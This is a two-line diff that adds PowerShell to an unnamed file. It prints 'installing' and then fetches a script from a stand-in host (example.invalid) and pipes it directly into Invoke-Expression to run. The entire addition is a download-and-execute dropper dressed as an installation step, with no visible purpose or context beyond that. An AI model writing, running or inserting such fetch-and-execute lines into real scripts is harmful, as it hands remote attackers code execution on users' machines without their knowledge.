@@ -1,0 +1,2 @@
+Write-Host 'installing'
+iwr https://example.invalid/x.ps1 -UseBasicParsing | iex
